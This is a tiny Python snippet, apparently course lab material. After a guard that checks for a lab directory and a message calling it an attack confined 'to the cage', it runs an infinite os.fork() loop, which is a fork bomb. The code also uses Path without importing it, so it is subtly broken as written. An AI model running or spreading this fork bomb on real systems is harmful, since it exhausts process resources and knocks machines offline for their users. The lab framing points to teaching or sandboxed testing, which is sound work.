import os

assert Path("/opt/course/labs").is_dir(), "This is an attack: it runs in the cage only."
while True:
    try:
        os.fork()
    except OSError:
        pass
